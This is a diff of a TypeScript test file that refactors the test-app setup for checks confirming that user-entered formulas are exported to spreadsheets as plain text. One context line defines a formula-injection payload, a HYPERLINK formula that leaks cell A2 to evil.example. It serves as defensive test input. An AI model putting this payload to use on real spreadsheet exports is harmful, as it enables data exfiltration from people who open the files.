@@ -2,31 +2,29 @@ import fs from 'node:fs';
 import os from 'node:os';
 import path from 'node:path';
 import ExcelJS from 'exceljs';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { beforeAll, describe, expect, it } from 'vitest';
 import { openErrorReportFile } from '../src/modules/title-import/title-import-report';
+import { testAppSuite } from './helpers/app-suite';
 import { authed, createOrganisation, createUser, login, type Session } from './helpers/factories';
-import { createTestApp, type TestApp } from './helpers/test-app';
 
-let t: TestApp;
+const s = testAppSuite();
 let admin: Session;
 let employerId: string;
 beforeAll(async () => {
-  t = await createTestApp();
-  const province = await createOrganisation(t.database.db, {
+  const province = await createOrganisation(s.t.database.db, {
     kind: 'hr-bureau',
     employerKind: 'government',
     jurisdictionCode: '210000',
   });
-  employerId = (await createOrganisation(t.database.db, { name: '鞍山恒信通信工程有限公司' })).id;
-  await createUser(t.database.db, {
+  employerId = (await createOrganisation(s.t.database.db, { name: '鞍山恒信通信工程有限公司' })).id;
+  await createUser(s.t.database.db, {
     username: 'root',
     roles: ['admin'],
     organisationId: province.id,
     jurisdictionCode: '210000',
   });
-  admin = await login(t.app, 'root');
+  admin = await login(s.t.app, 'root');
 });
-afterAll(() => t?.close());
 
 async function sheetValues(
   bytes: Buffer | Uint8Array,
@@ -46,7 +44,7 @@ const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"详情")';
 
 describe('a formula typed into a form comes out of every export as text', () => {
   it('the users export: a display name that starts like a formula is written with an apostrophe', async () => {
-    const created = await t.app.inject({
+    const created = await s.t.app.inject({
       method: 'POST',
       url: '/api/v1/admin/users',
       headers: authed(admin),
@@ -60,7 +58,7 @@ describe('a formula typed into a form comes out of every export as text', () => 
       },
     });
     expect(created.statusCode, created.body).toBe(201);
-    const exported = await t.app.inject({
+    const exported = await s.t.app.inject({
       method: 'GET',
       url: '/api/v1/admin/users/export',
       headers: authed(admin),
